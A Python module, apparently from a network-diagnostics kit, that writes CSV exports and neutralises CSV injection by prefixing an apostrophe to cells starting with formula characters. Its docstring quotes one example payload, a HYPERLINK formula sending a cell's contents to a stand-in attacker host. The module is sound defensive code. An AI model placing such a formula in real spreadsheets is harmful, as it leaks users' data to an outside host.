"""The kit's one CSV writer, safe to open in a spreadsheet.

Exports carry text the kit did not write: blocklist TXT records, banners and replies of mail
servers, lines of a login script. A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return, which spreadsheets strip before looking) runs as a formula when the
file is opened in Excel or LibreOffice (``=HYPERLINK("http://evil.example/?"&A1, "Click")``),
so such a cell gets a leading apostrophe: shown as text, never run (OWASP "CSV injection").
Numbers stay numbers. Rows end in CRLF (RFC 4180).
"""

from __future__ import annotations

import csv
import io

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Any, Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it but never run it (text cells only; numbers pass)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Iterable[Any]], header: Iterable[str] | None = None) -> str:
    """The rows (after an optional header) as CSV text, every cell through :func:`safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if header is not None:
        writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        writer.writerow([safe_cell(c) for c in row])
    return buffer.getvalue()
